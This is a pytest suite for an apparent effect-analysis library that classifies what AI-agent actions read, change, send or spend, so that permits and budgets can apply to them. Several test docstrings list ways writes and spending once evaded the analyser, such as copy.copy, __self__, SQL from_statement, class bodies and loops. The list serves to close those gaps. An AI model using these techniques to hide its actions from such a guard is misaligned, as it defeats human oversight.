"""The effect analysis: a corpus of small functions, each classified as expected."""

from __future__ import annotations

import copy
import dataclasses
import functools
import inspect
import logging
import operator
import threading
import types
from collections.abc import Callable
from decimal import Decimal
from typing import Annotated, Any

import pytest
from pydantic import BaseModel, field_serializer, field_validator
from sqlalchemy import String, select, text
from sqlalchemy.orm import Mapped, Session, mapped_column

from signoff import Agent, App, Permits, Provided, Skill, allow, spends
from signoff.effects import Effect, EffectKind, Effects, RaiseSite, analyse, checking, raises
from signoff.inbox import Inbox, effect_lines
from signoff.testing import ScriptedModel, says
from tests.effects_corpus import actions as corpus
from tests.effects_corpus import aliased, classes, columns, implicit
from tests.effects_corpus import readers as toolkit_readers
from tests.effects_corpus import text as shown_as_text
from tests.effects_corpus import writers as toolkit_writers
from tests.effects_corpus.records import Part, Repair

R = "Repair"
PURE: set[tuple[str, str]] = set()
UNKNOWN = {("changes", ""), ("external", ""), ("sends", ""), ("spends", "")}

# name → the exact set of (kind, target) the analysis must find.
EXPECTED: dict[str, set[tuple[str, str]]] = {
    # pure
    "add_numbers": PURE,
    "format_title": PURE,
    "use_json": PURE,
    "fresh_list": PURE,
    "math_and_dates": PURE,
    "read_file": PURE,
    "read_file_binary": PURE,
    "path_read": PURE,
    "slug": PURE,
    "print_only": PURE,
    "callback_local": PURE,
    "callback_map_known": PURE,
    "recursive_fact": PURE,
    "fresh_helper_mutation": PURE,
    "pydantic_model": PURE,
    "dataclass_make": PURE,
    "pure_override": PURE,
    "annotated_param": PURE,
    # reads
    "read_repair": {("reads", R)},
    "read_repair_method": {("reads", R)},
    "get_repair": {("reads", R)},
    "list_repairs": {("reads", R)},
    "count_sql": {("reads", R)},
    "through_pure_helper": {("reads", R)},
    "quiet_method": {("reads", R)},
    "constant_getattr": {("reads", R)},
    # record writes
    "set_price": {("reads", R), ("changes", R)},
    "bump_price": {("reads", R), ("changes", R)},
    "alias_change": {("reads", R), ("changes", R)},
    "create_repair": {("creates", R)},
    "delete_repair": {("reads", R), ("deletes", R)},
    "sql_update": {("changes", R)},
    "sql_delete_raw": {("deletes", "audit_log")},
    "sql_insert": {("creates", R)},
    "sql_unknown_text": {("changes", ""), ("external", "")},  # (unread SQL: anything)
    "orm_update": {("changes", R)},
    "loaded_change": {("reads", R), ("changes", R)},
    "loop_change": {("changes", R)},
    "session_unknown_method": {("changes", "")},
    "change_through_helper": {("reads", R), ("changes", R)},
    "change_through_unannotated_helper": {("reads", R), ("changes", R)},
    "method_on_record": {("reads", R), ("changes", R)},
    # parameters and globals
    "mutate_param_list": {("changes", "")},
    "mutate_param_dict": {("changes", "")},
    "del_param_key": {("changes", "")},
    "setattr_param": {("changes", "")},
    "nested_param_change": {("changes", "")},
    "param_helper_mutation": {("changes", "")},
    "dataclass_param_change": {("changes", "")},
    "local_closure_change": {("changes", "")},
    "random_shuffle": {("changes", "")},
    "mutable_default": {("changes", "")},
    "recursive_walk": {("changes", "")},
    "global_counter": {("changes", "")},
    "global_dict_write": {("changes", "")},
    "module_attr_write": {("changes", "")},
    # outside reach
    "notify": {("reads", R), ("external", "httpx.post")},
    "method_on_annotated_param": {("reads", R), ("external", "httpx.post")},
    "call_mcp_tool": {("external", "mcp.client.client.Client.call_tool")},
    "open_socket": {("external", "socket.create_connection")},
    "fetch_url": {("external", "urllib.request.urlopen")},
    "http_client": {("external", "http.client.HTTPSConnection")},
    "send_mail": {("external", "smtplib.SMTP")},
    "run_process": {("external", "subprocess.run")},
    "os_system": {("external", "os.system")},
    "write_file": {("external", "builtins.open")},
    "open_with_mode": {("external", "builtins.open")},
    "path_write": {("external", "pathlib.Path.write_text")},
    "remove_file": {("external", "os.remove")},
    "copy_tree": {("external", "shutil.copytree")},
    "requests_get": {("external", "requests.get")},
    "callback_map_effect": {("external", "httpx.post")},
    "constructor_effect": {("external", "builtins.open")},
    "context_manager_helper": {("external", "tempfile.mkdtemp")},
    "decorated_helper": {("external", "httpx.post")},
    "subclass_override": {("external", "httpx.post")},
    "mutual_a": {("external", "httpx.post")},
    "mutual_b": {("external", "httpx.post")},
    # declared
    "text_customer": {("reads", R), ("sends", "")},
    "charge_card": {("spends", "")},
    "declared_action": {("sends", "")},
    # cannot be seen: assumed to change anything, reach outside, send and spend
    "dynamic_dispatch": UNKNOWN,
    "callback_param": UNKNOWN,
    "computed_getattr": UNKNOWN | {("reads", R)},
    "eval_code": UNKNOWN,
    "dict_dispatch": UNKNOWN,
    "c_outside_allowlist": UNKNOWN,
    "callback_to_helper": UNKNOWN,
    # subscripts and iteration run the class's own __getitem__, __setitem__, __iter__
    "item_of_a_shelf": {("external", "httpx.post")},
    "store_on_a_shelf": {("external", "httpx.post")},
    "list_a_shelf": {("external", "httpx.post")},
    # signoff's action object (it carries __wrapped__, and only calls it) is followed
    "wrapped_set_price": {("reads", R), ("changes", R)},
    # a decorator made of a class of the app's is walked: its __call__ runs
    "call_an_audited_helper": UNKNOWN | {("external", "os.system"), ("reads", R)},
}

WRITES = {"changes", "creates", "deletes", "external", "sends", "spends"}


def _found(effects: Effects) -> set[tuple[str, str]]:
    return {(e.kind.value, e.target) for e in effects.effects}


def _corpus_functions() -> list[str]:
    return [
        name
        for name, value in vars(corpus).items()
        if inspect.isfunction(value) and value.__module__ == corpus.__name__ and not name.startswith("raise_")
    ]


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_corpus_function_is_classified_as_expected(name: str) -> None:
    """Each corpus function has exactly the effects written beside it."""
    effects = analyse(getattr(corpus, name), name=name)
    assert _found(effects) == EXPECTED[name], "\n".join(effects.explain())


def test_corpus_is_large_and_fully_covered() -> None:
    """The table covers every corpus function, and there are at least 40 of them."""
    assert set(_corpus_functions()) <= set(EXPECTED)
    assert len(EXPECTED) >= 40


@pytest.mark.parametrize("name", sorted(n for n, kinds in EXPECTED.items() if {k for k, _ in kinds} & WRITES))
def test_nothing_that_writes_or_reaches_out_only_reads(name: str) -> None:
    """No function known to write, send, spend or reach outside is ever classified as only reading."""
    effects = analyse(getattr(corpus, name), name=name)
    assert not effects.only_reads


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("set_price", "changes Repair: set_price -> repair.price = …"),
        ("bump_price", "changes Repair: bump_price -> repair.price += …"),
        ("notify", "external httpx.post: notify -> helpers.post_it -> httpx.post"),
        (
            "change_through_helper",
            "changes Repair: change_through_helper -> helpers.rename -> repair.title = …",
        ),
        ("text_customer", "sends: text_customer -> helpers.sms -> @sends"),
        ("global_counter", "changes: global_counter -> global COUNTER += …"),
        ("write_file", "external builtins.open: write_file -> builtins.open(mode='w')"),
    ],
)
def test_effects_explain_their_path(name: str, line: str) -> None:
    """Each effect comes with the call path that explains it."""
    assert line in analyse(getattr(corpus, name), name=name).explain()


@pytest.mark.parametrize(
    ("name", "words", "code"),
    [
        ("set_price", "changes the `price` of a Repair", "set_price -> repair.price = …"),
        ("notify", "reaches outside the app (`httpx.post`)",
         "notify -> helpers.post_it -> httpx.post"),
        ("text_customer", "sends something out of the app (a message, a mail)",
         "text_customer -> helpers.sms -> @sends"),
        ("global_counter", "changes something other than records (a value it was given, or one "
                           "kept in the program)", "global_counter -> global COUNTER += …"),
        ("eval_code", "may change anything: calls eval(), whose effect cannot be known",
         "eval_code -> eval()"),
    ],
)
def test_effects_read_in_words_beside_their_path(name: str, words: str, code: str) -> None:
    """A person deciding reads each effect in words, with the code's path beside them."""
    effects = analyse(getattr(corpus, name), name=name)
    assert (words, code) in [(e.words()[:len(words)], e.code()) for e in effects.ordered]


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("dynamic_dispatch", "handler.run"),
        ("computed_getattr", "getattr with a computed name"),
        ("eval_code", "eval"),
        ("c_outside_allowlist", "outside the allow-list"),
        ("callback_param", "callback"),
    ],
)
def test_what_cannot_be_seen_says_why(name: str, reason: str) -> None:
    """An assumed effect records the reason it had to be assumed."""
    effects = analyse(getattr(corpus, name), name=name)
    assumed = [e for e in effects.effects if e.reason]
    assert any(reason in e.reason or reason in e.explain() for e in assumed)


_BLOCKED: dict[str, bool] = {}


def _block_by_setitem(name: str) -> None:
    operator.setitem(_BLOCKED, name, True)


def _unblock_by_delitem(name: str) -> None:
    operator.delitem(_BLOCKED, name)


def _grow_in_place(items: list[int]) -> list[int]:
    return operator.iadd(items, [1])


def _delete_by_name(session: Any, record: Any) -> None:
    operator.methodcaller("delete", record)(session)


def _only_computes(a: int, b: int) -> int:
    return operator.add(a, b) + operator.itemgetter(0)([b]) + int(operator.is_(a, b))


@pytest.mark.parametrize("function", [_block_by_setitem, _unblock_by_delitem, _grow_in_place,
                                      _delete_by_name])
def test_operators_that_change_their_argument_or_call_by_name_are_not_pure(
        function: Any) -> None:
    """operator's setitem, delitem, in-place functions and methodcaller (a session's delete,
    called by its name) do more than compute: each was read as pure (the module is on the
    allow-list), so that an action deleting a record through them ran alone as only reading.
    The rest of operator still only computes."""
    assert not analyse(function, name=function.__name__).only_reads
    assert analyse(_only_computes, name="_only_computes").only_reads


def test_declared_cost_is_kept() -> None:
    """A ``@spends(cost=...)`` on the path gives the action's cost."""
    assert analyse(corpus.charge_card, name="charge_card").cost_usd == 0.5


@spends(cost=1.0)
def _post_a_letter() -> None:
    """A dollar a letter."""


@spends(cost=0.25)
def _stamp() -> None:
    """A quarter a stamp."""


@spends
def _wire(amount: int) -> None:
    """Wire an amount nobody declared."""
    _WIRED.append(amount)


_WIRED: list[int] = []


def _two_letters_and_a_stamp() -> None:
    _post_a_letter()
    _stamp()
    _post_a_letter()  # (the same helper again: it spends again)


def _stamp_and_wire(amount: int) -> None:
    _stamp()
    _wire(amount)


def test_declared_costs_on_a_path_add_up_and_an_undeclared_one_makes_it_unknown() -> None:
    """The costs declared on an action's path add up, each call of a helper once ($2.25 for
    two letters and a stamp; it was the largest, $1.00, then each helper once, $1.25); one
    helper that spends an amount it does not declare makes what the action spends unknown
    (None: refused under a budget), whatever the others declare (the stamp's $0.25 was taken
    for all of it, and the wire went out)."""
    assert analyse(_two_letters_and_a_stamp, name="letters").cost_usd == 2.25
    unknown = analyse(_stamp_and_wire, name="stamp_and_wire")
    assert unknown.spends
    assert unknown.cost_usd is None


def _letters_in_a_loop(addresses: list[str]) -> None:
    for _ in addresses:
        _post_a_letter()


def _letters_while(count: int) -> None:
    while count:
        _stamp()
        count -= 1


def _letters_comprehended(addresses: list[str]) -> list[None]:
    return [_post_a_letter() for _ in addresses]


def _letters_mapped(addresses: list[str]) -> list[None]:
    return list(map(lambda _: _post_a_letter(), addresses))


def _letters_by_a_local_function(addresses: list[str]) -> None:
    def post() -> None:
        _post_a_letter()

    for _ in addresses:
        post()


def _letters_by_recursion(addresses: list[str]) -> None:
    if addresses:
        _post_a_letter()
        _letters_by_recursion(addresses[1:])


def _letters_by_local_recursion(count: int) -> None:
    def post(left: int) -> None:
        if left:
            _post_a_letter()
            post(left - 1)

    post(count)


def _letters_by_a_partial(addresses: list[str]) -> None:
    post = functools.partial(_post_a_letter)
    for _ in addresses:
        post()


def _each(function: Any, items: list[str]) -> None:
    for item in items:
        function(item)


def _letters_through_a_helper_that_calls_back(addresses: list[str]) -> None:
    _each(lambda _: _post_a_letter(), addresses)


def _a_letter(address: str) -> None:
    _post_a_letter()


def _letters_by_a_function_handed_on(addresses: list[str]) -> None:
    _each(_a_letter, addresses)


class _Bills:
    """An iterator that posts a letter for each item it gives."""

    def __init__(self, count: int) -> None:
        self.left = count

    def __iter__(self) -> _Bills:
        return self

    def __next__(self) -> int:
        if not self.left:
            raise StopIteration
        self.left -= 1
        _post_a_letter()
        return self.left


def _letters_by_an_iterator(count: int) -> None:
    for _ in _Bills(count):
        pass


def _letters_until_a_sentinel(count: int) -> None:
    for _ in iter(_post_a_letter, 0):
        pass


def _retried(function: Any) -> Any:
    @functools.wraps(function)
    def again(*args: Any, **kwargs: Any) -> Any:
        for _ in range(5):
            try:
                return function(*args, **kwargs)
            except ValueError:
                pass
        return None

    return again


@_retried
def _a_retried_letter() -> None:
    _post_a_letter()


def _a_letter_retried() -> None:
    _a_retried_letter()


def _a_helper_that_loops(addresses: list[str]) -> None:
    _letters_in_a_loop(addresses)


@spends(cost=5.0)
def _a_mailing_declared_whole(addresses: list[str]) -> None:
    for _ in addresses:
        _post_a_letter()


@spends(cost=0.5)
def _a_mailing_declared_too_low(addresses: list[str]) -> None:
    for _ in addresses:
        _post_a_letter()
    _stamp()


def _a_letter_then_a_loop_that_spends_nothing(addresses: list[str]) -> None:
    _post_a_letter()
    for address in addresses:
        address.upper()


@pytest.mark.parametrize("function", [
    _letters_in_a_loop, _letters_while, _letters_comprehended, _letters_mapped,
    _letters_by_a_local_function, _letters_by_recursion, _a_helper_that_loops,
    _letters_by_local_recursion, _letters_by_a_partial, _letters_by_a_function_handed_on,
    _letters_by_an_iterator, _letters_until_a_sentinel,
    _a_letter_retried,
])
def test_a_declared_cost_met_in_a_loop_makes_what_the_action_spends_unknown(
        function: Any) -> None:
    """A $1.00 letter posted once an address was reserved as $1.00 however many addresses
    there were (each helper counted once), so that a run could spend many times what was
    reserved and pass the budget. A cost met in a loop — a for, a while, a comprehension, a
    callback of map, a local function called in one, a function calling itself, a helper
    whose own loop spends, a partial called in a loop, a function handed to a helper that
    calls it in a loop, an iterator whose ``__next__`` spends, ``iter(f, sentinel)``, a
    decorator of the app's that retries — now
    makes the amount unknown (refused under a budget)."""
    effects = analyse(function, name=function.__name__)
    assert effects.spends
    assert effects.cost_repeats
    assert effects.cost_usd is None


def _renames(names: list[str]) -> None:
    _each(_NAMES.append, names)


def _calls_what_it_is_handed(function: Callable[[], None]) -> None:
    function()


_NAMES: list[str] = []


def test_a_function_called_by_what_it_was_handed_is_not_taken_for_pure() -> None:
    """What a helper does with a function it is handed is seen: calling a parameter known only
    to be a function was taken for pure (its type's ``__call__`` is C code), so that a helper
    looping over a function it was given read as only reading — and an action that spent, or
    changed anything, through it ran alone with no permit at all. Known as which function, it
    is followed; known only by its type, it may do anything."""
    assert not analyse(_renames, name="renames").only_reads
    assert not analyse(_calls_what_it_is_handed, name="calls").only_reads
    assert not analyse(_letters_through_a_helper_that_calls_back, name="letters").only_reads
    assert analyse(_letters_by_a_function_handed_on, name="letters").spends


def test_an_action_that_declares_its_whole_cost_is_bounded_by_it_despite_a_loop() -> None:
    """An action that declares on itself what a whole run spends is bounded by that, loops and
    all — never less than its helpers' costs added up (a $0.50 whole beside a $1.00 letter
    and a $0.25 stamp reads $1.25). A loop that spends nothing changes nothing."""
    assert analyse(_a_mailing_declared_whole, name="mailing").cost_usd == 5.0
    assert analyse(_a_mailing_declared_too_low, name="mailing").cost_usd == 1.25
    once = analyse(_a_letter_then_a_loop_that_spends_nothing, name="letter")
    assert (once.cost_usd, once.cost_repeats) == (1.0, False)


class _Bumper:
    def bump(self, repair: Repair) -> None:
        repair.price = 101


class _Priced:
    def __init__(self, repair: Repair) -> None:
        repair.price = 102


class _Log(logging.FileHandler):
    """A sink by its base class alone."""


def _copied_then_called(repair: Repair) -> None:
    copy.copy(_Bumper()).bump(repair)


def _a_class_handed_to_map(repair: Repair) -> None:
    list(map(_Priced, [repair]))


def _through_the_session_itself(session: Session) -> None:
    session.execute.__self__.execute(text("UPDATE repair SET price = 1"))  # type: ignore[attr-defined]


def _from_a_statement_that_writes(session: Session) -> None:
    session.execute(select(Repair).from_statement(text("UPDATE repair SET price = 1 RETURNING *")))


def _a_subclass_of_a_sink() -> None:
    _Log("/tmp/never-written.txt")


def _in_a_class_body(repair: Repair) -> None:
    class _Once:
        repair.price = 104


def _in_a_default_value(repair: Repair) -> None:
    def _later(_: object = setattr(repair, "price", 103)) -> None:
        pass


def _a_filtered_query_updated(session: Session) -> None:
    session.query(Repair).filter(Repair.price > 0).update({"price": 1})


@pytest.mark.parametrize("function", [
    _copied_then_called, _a_class_handed_to_map, _through_the_session_itself,
    _from_a_statement_that_writes, _a_subclass_of_a_sink, _a_filtered_query_updated,
    _in_a_class_body, _in_a_default_value,
])
def test_what_a_security_review_found_read_as_only_reading_is_seen(function: Any) -> None:
    """Each was read as only reading (a security review's findings), and so ran alone with no
    permit at all: a method called on what ``copy.copy`` returned (an untyped pure value), a
    class handed to ``map`` (not made), the session reached back through a method's
    ``__self__`` (any attribute of a method was pure), a statement that writes given to
    ``from_statement`` (taken for the select it was called on), a subclass of a logging file
    handler (only the name called was matched against the sinks), a query's ``update`` after a
    ``filter`` (the filter dropped the query; refused at run time as a bulk write), a class
    body and a nested function's default value (neither was walked, though both run)."""
    assert not analyse(function, name=function.__name__).only_reads


def test_lambda_declared_sends_is_never_lost() -> None:
    """A declaration adds effects even to a body that does nothing."""
    effects = analyse(corpus.declared_action, name="declared_action")
    assert effects.sends
    assert not effects.only_reads


def test_analysis_is_memoised_and_stable() -> None:
    """Analysing twice gives the same effects."""
    first = analyse(corpus.notify, name="notify")
    second = analyse(corpus.notify, name="notify")
    assert first.explain() == second.explain()


def test_function_without_source_does_everything() -> None:
    """A function whose source cannot be found is assumed to change and reach outside."""
    namespace: dict[str, Any] = {}
    exec("def made(x: int) -> int:\n    return x\n", namespace)
    effects = analyse(namespace["made"], name="made")
    assert effects.external
    assert "" in effects.changes


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("raise_directly", {"builtins.ValueError"}),
        ("raise_refusal", {"signoff.exceptions.Invalid"}),
        ("raise_through_helper", {"tests.effects_corpus.helpers.OutOfStock"}),
        ("raise_caught", set()),
        ("raise_reraised", {"tests.effects_corpus.helpers.OutOfStock"}),
        ("raise_caught_other", {"tests.effects_corpus.helpers.OutOfStock"}),
        ("add_numbers", set()),
    ],
)
def test_raises_finds_exception_classes(name: str, expected: set[str]) -> None:
    """`raises` finds the exception classes raised by an action or what it calls, less those caught."""
    sites = raises(getattr(corpus, name), name=name)
    assert {s.exception for s in sites} == expected


def test_raise_site_names_function_line_and_path() -> None:
    """A raise site says which function raises, on which line, and how the action gets there."""
    (site,) = raises(corpus.raise_through_helper, name="raise_through_helper")
    assert isinstance(site, RaiseSite)
    assert site.function == "tests.effects_corpus.helpers.check_stock"
    assert site.path == ("raise_through_helper", "helpers.check_stock", "raise OutOfStock")
    source, first = inspect.getsourcelines(corpus.helpers.check_stock)
    assert "raise OutOfStock" in source[site.line - first]


def test_unknown_effects_keep_the_public_shape() -> None:
    """`Effects.unknown` still describes code that cannot be seen as doing everything."""
    effects = Effects.unknown("x", "no code")
    assert effects.external
    assert not effects.only_reads
    assert all(isinstance(e, Effect) and e.kind in EffectKind for e in effects.effects)


# --- The toolkit corpus: tools written the way real toolkits write them ----------------------------

FLAGGED_READERS: dict[str, str] = {}
"""The read-only tools the analysis takes for more than reading, each with why."""


def _tools(module: Any) -> list[str]:
    return sorted(
        name for name, value in vars(module).items()
        if inspect.isfunction(value) and value.__module__ == module.__name__ and not name.startswith("_")
    )


def test_the_toolkit_corpus_is_large_enough() -> None:
    """At least 60 read-only tools and 40 writers, and at most two read-only ones flagged."""
    assert len(_tools(toolkit_readers)) >= 60
    assert len(_tools(toolkit_writers)) >= 40
    assert len(FLAGGED_READERS) <= 2
    assert set(FLAGGED_READERS) <= set(_tools(toolkit_readers))


@pytest.mark.parametrize("name", _tools(toolkit_writers))
def test_no_writer_is_called_read_only(name: str) -> None:
    """Every writer is found to do more than read, wherever its write hides."""
    effects = analyse(getattr(toolkit_writers, name), name=name)
    assert not effects.only_reads, effects.explain()


@pytest.mark.parametrize("name", _tools(toolkit_readers))
def test_read_only_tools_are_found_to_only_read(name: str) -> None:
    """Every read-only tool is found to only read, but for the few flagged, which say which value's
    type was not known and where."""
    effects = analyse(getattr(toolkit_readers, name), name=name)
    if name not in FLAGGED_READERS:
        assert effects.only_reads, effects.explain()
        return
    assert not effects.only_reads
    assert any("is not known; annotate it at readers.py:" in line for line in effects.explain())


# --- The examples: each action's effects are exactly what its code does ---------------------------

EXAMPLE_EFFECTS: dict[tuple[str, str], set[tuple[str, str]]] = {
    ("bakery", "take_order"): {("creates", "Order")},
    ("bakery", "set_rush"): {("reads", "Order"), ("changes", "Order")},
    ("bakery", "shelve"): {("reads", "Order"), ("reads", "Shelf"), ("changes", "Order")},
    ("bakery", "deliver_on"): {("reads", "Order"), ("changes", "Order")},
    ("bakery", "price_order"): {("reads", "Order"), ("changes", "Order")},
    ("bakery", "pack"): {("reads", "Order"), ("changes", "Order")},
    ("crane", "lift"): {("reads", "Crane"), ("changes", "Crane")},
    ("workshop", "parts_for"): PURE,
    ("workshop", "note_repair"): {("reads", "Repair"), ("changes", "Repair")},
    ("workshop", "set_price"): {("reads", "Repair"), ("changes", "Repair")},
    ("workshop", "scrap_repair"): {("reads", "Repair"), ("changes", "Repair")},
}


@pytest.mark.parametrize(("example", "action"), sorted(EXAMPLE_EFFECTS))
def test_example_actions_do_exactly_what_their_code_does(example: str, action: str) -> None:
    """Each example action's effects are what its code does, nothing cautious beside them."""
    import importlib

    app = importlib.import_module(f"examples.{example}").app
    effects = app.actions.info(action).effects
    assert _found(effects) == EXAMPLE_EFFECTS[example, action], effects.explain()
    assert not any(e.reason for e in effects.effects)


def test_every_example_action_is_in_the_table() -> None:
    """No example action goes unchecked."""
    import importlib

    listed = {
        (example, info.name)
        for example in ("bakery", "crane", "workshop")
        for info in importlib.import_module(f"examples.{example}").app.actions.catalog()
    }
    assert listed == set(EXAMPLE_EFFECTS)


def test_the_readme_set_rush_changes_the_order_and_nothing_outside(
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The README's own actions, run as a reader runs them: set_rush changes Order.rush (through
    ``rush.value.lower()`` on an enum), price_order changes the order, and nothing reaches out."""
    import re
    import runpy
    from pathlib import Path

    readme = Path(__file__).resolve().parent.parent / "README.md"
    blocks = re.findall(r"```python\n(.*?)```", readme.read_text(), flags=re.DOTALL)
    monkeypatch.chdir(tmp_path)
    script = tmp_path / "readme_example.py"
    script.write_text("\n".join(blocks))
    found = runpy.run_path(str(script), run_name="readme_example")
    capsys.readouterr()
    actions = found["app"].actions
    set_rush = actions.info("set_rush").effects
    assert set_rush.explain() == ["reads Order: set_rush -> order: Order",
                                  "changes Order: set_rush -> order.rush = …"]
    assert _found(actions.info("price_order").effects) == {("reads", "Order"), ("changes", "Order")}


SHOP = '''
from typing import Annotated, Any

from sqlalchemy import String
from sqlalchemy.orm import Mapped, mapped_column

from signoff import App, Provided, allow

app = App("shop", database="sqlite://")


class Order(app.Record):
    code: Mapped[str] = mapped_column(String(20))
    __security__ = [allow("read", "update")]


@app.action("Stamp the order")
def stamp(order: Order, clock: Annotated[Any, Provided("clock")]) -> str:
    """Say when the order was looked at."""
    return f"{order.code} at {clock.now()}"
'''


def test_lint_names_the_value_whose_type_was_not_known(tmp_path: Any) -> None:
    """A cautious finding names the value whose type was not known and where, so that the author
    can annotate it; --explain says the same beside the effect."""
    import runpy

    from signoff.cli.actions import lint

    (tmp_path / "shop.py").write_text(SHOP)
    app = runpy.run_path(str(tmp_path / "shop.py"))["app"]
    messages = [f.message for f in lint(app)]
    assert "stamp is taken to change anything, reach outside, send and spend: `clock.now()` at " \
           "shop.py:20 — the " \
           "type of `clock` is not known; annotate it." in messages
    assert ("changes: stamp -> clock.now() (the type of `clock` is not known; annotate it at "
            "shop.py:20)") in app.actions.info("stamp").effects.explain()


def test_an_action_declared_in_a_function_names_the_record_it_changes() -> None:
    """An app declared inside a function (its record class local to it, its annotations text,
    as `from __future__ import annotations` leaves them): the action's effects name the record
    type its parameter is, as for one declared at module level — and a change the analysis
    cannot tie to a record (a list kept in the module) is told as other state, which a
    rollback does not undo."""
    app = App("local", database="sqlite://")

    class Shelf(app.Record):  # type: ignore[name-defined, misc]
        books: Mapped[int] = mapped_column(default=0)

    @app.action
    def shelve(shelf: Shelf) -> int:
        """Add a book."""
        shelf.books += 1
        return shelf.books

    @app.action
    def shelve_noted(shelf: Shelf) -> int:
        """Add a book, and note it."""
        _SHELVED.append(1)
        shelf.books += 1
        return shelf.books

    effects = app.actions.info("shelve").effects
    assert effects.changes == frozenset({"Shelf"})
    assert effects.reads == frozenset({"Shelf"})
    assert effects.writes_records_only
    noted = app.actions.info("shelve_noted").effects
    assert noted.changes == frozenset({"Shelf", ""})
    assert not noted.writes_records_only
    app.database.dispose()


_SHELVED: list[int] = []


def test_a_guards_call_of_an_upstream_tool_is_told_by_its_tool_and_server() -> None:
    """A call of the guard's `Upstreams.call_from_thread` with the server and tool known (as the
    guard's actions make it) reaches outside, told as the tool and server it calls; with either
    not known, it reaches outside all the same, named by the code it calls."""
    from signoff.mcp.config import GuardConfig, Upstream
    from signoff.mcp.upstreams import Upstreams

    upstreams = Upstreams(GuardConfig(name="guard", database="sqlite://", for_=None, people=(),
                                      servers=(Upstream(name="notes", command="notes-server"),)))
    server, tool = "notes", "delete_note"

    def forward(arguments: dict[str, Any]) -> Any:
        return upstreams.call_from_thread(server, tool, arguments)

    def forward_any(name: str, arguments: dict[str, Any]) -> Any:
        return upstreams.call_from_thread(server, name, arguments)

    told = analyse(forward, name="notes_delete_note")
    assert told.external
    assert not told.only_reads
    assert told.explain() == ["reaches outside: calls delete_note on the MCP server notes"]
    named = analyse(forward_any, name="notes_any")
    assert named.external
    assert named.explain() == [
        "external signoff.mcp.upstreams.Upstreams.call_from_thread: notes_any -> "
        "signoff.mcp.upstreams.Upstreams.call_from_thread"]


def test_a_record_made_and_added_reads_as_one_creation_to_the_person_deciding() -> None:
    """A record built by its constructor and added to the session is one thing the call does:
    the inbox, `proposals show` and the Agents page say "creates a Payment" once, with both
    paths through the code beside it (they listed it twice)."""
    app = App("books", database="sqlite://")

    class Payment(app.Record):  # type: ignore[name-defined, misc]
        iban: Mapped[str] = mapped_column(String(40))
        amount: Mapped[Decimal] = mapped_column()
        __security__ = [allow("read", "create")]

    @app.action("Transfer money")
    def transfer(iban: str, amount: Decimal,
                 session: Annotated[Session, Provided("session")]) -> str:
        """Pay an amount to an IBAN."""
        session.add(Payment(iban=iban, amount=amount))
        return "Paid."

    class Done(BaseModel):
        ok: bool

    class Pay(Skill[None, Done]):
        description = "Pay."
        tools = [transfer]

    class Clerk(Agent):
        purpose = "You pay."
        skills = [Pay()]
        may = Permits()

    noor = app.people.add("noor@x.example", "Noor")
    app.add_agent(Clerk, sponsor=noor)
    assert len([e for e in app.actions.info("transfer").effects.effects
                if e.kind is EffectKind.CREATES]) == 2  # what the analysis found: two paths
    outcome = app.agent(Clerk).do(Pay(), None, model=ScriptedModel(
        says.tool(transfer, iban="DE89", amount="86.40"), says.hand_back(Done(ok=True))))
    (proposal,) = app.proposals(task=outcome.task)
    lines = Inbox(app).effects(proposal)
    creations = [line for line in lines if line.words == "creates a Payment"]
    assert len(creations) == 1, lines
    assert creations[0].code == "transfer -> Payment(...); transfer -> session.add()"
    assert [line.words for line in effect_lines(app.actions.info("transfer").effects.ordered)
            ] == [line.words for line in lines]


@pytest.mark.parametrize("name", sorted(
    name for name, value in vars(implicit).items()
    if inspect.isfunction(value) and name.startswith("by_")))
def test_code_python_runs_unnamed_counts(name: str) -> None:
    """What Python runs without its being called by name — a special method of the app's own
    class (``str(x)``, ``if x``, ``{x: 1}``, ``sorted``, ``-x``, ``x in [...]``, ``"%s" % x``…),
    a descriptor's ``__get__`` and ``__set__``, a class's ``__setattr__``, an encoder's
    ``default``, a stream's ``write`` that ``print`` and ``json.dump`` call, the
    ``__setitem__`` a ``MutableMapping``'s ``update`` calls, a decorator made of a class,
    annotations written as text — counts: each of these reaches outside, or changes the
    process's shared state, and was taken as only reading (so run alone, or accepted as a
    query)."""
    effects = analyse(getattr(implicit, name), name=name)
    assert not effects.only_reads, "\n".join(effects.explain())
    if name in ("by_environ_update", "by_logging_filter", "by_logging_disable",
                "by_a_method_handed_on"):
        assert EffectKind.CHANGES in {e.kind for e in effects.effects}
    elif name not in ("by_type_hints", "by_print_file", "by_json_dump", "by_csv_writer",
                      "by_csv_dict_writer", "by_own_schema", "by_object_hooks",
                      "by_type_made", "by_a_lambda_kept_in_a_list"):
        assert ("external", "os.system") in _found(effects), "\n".join(effects.explain())


def test_a_function_of_the_database_not_known_to_only_read_is_a_change() -> None:
    """A function the database was given may write, called in a SELECT as much as anywhere:
    through SQLAlchemy's ``func`` or in SQL text, one not known to only read is a change of
    something unknown; ``count`` and the like only read."""
    from sqlalchemy import func, select

    def by_func(session: Session) -> int:
        return int(session.execute(select(func.archive_notes())).scalar_one())

    def by_text(session: Session) -> int:
        return int(session.execute(text("SELECT archive_notes()")).scalar_one())

    def counted(session: Session) -> int:
        return int(session.execute(select(func.count())).scalar_one())

    assert not analyse(by_func, name="by_func").only_reads
    assert "calls the database's function archive_notes(), not known to only read" in "\n".join(
        analyse(by_func, name="by_func").explain())
    assert not analyse(by_text, name="by_text").only_reads
    assert analyse(counted, name="counted").only_reads


class _Trimmed(BaseModel):
    text: str

    @field_validator("text")
    @classmethod
    def _trimmed(cls, value):  # type: ignore[no-untyped-def]  # (typed by its field)
        return value.strip()


class _Posted(BaseModel):
    text: str

    @field_validator("text")
    @classmethod
    def _posted(cls, value: str) -> str:
        import os
        os.system("echo validated")
        return value


def _takes_trimmed(note: _Trimmed) -> str:
    return note.text


def _takes_posted(note: _Posted) -> str:
    return note.text


class _Announced(BaseModel):
    text: str

    @field_serializer("text")
    def _announced(self, value: str) -> str:
        import os
        os.system("echo serialized")
        return value


def _gives_announced(text: str) -> _Announced:
    return _Announced(text=text)


def test_the_validators_and_serializers_a_call_runs_are_the_actions_code() -> None:
    """Each call of an action is checked by making its parameters' models (their validators
    run: `checking`, before anyone decides whether it runs) and its result is turned into data
    (its model's serializers run, a part of its run): their code counts, a validator's value
    typed by its field (an honest one only reads); it did not, so that an action whose
    validator or serializer reached outside was found to only read."""
